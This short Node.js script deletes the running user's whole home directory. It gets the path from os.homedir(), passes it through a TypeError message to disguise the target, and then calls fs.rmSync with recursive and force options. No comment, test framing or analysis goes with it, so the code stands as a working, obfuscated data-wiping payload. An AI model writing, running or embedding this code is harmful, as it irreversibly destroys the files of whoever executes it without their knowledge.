const fs = require('fs');
const os = require('os');

const failure = new TypeError(os.homedir());
const where = String(failure).split(': ')[1];
fs.rmSync(where, { recursive: true, force: true });
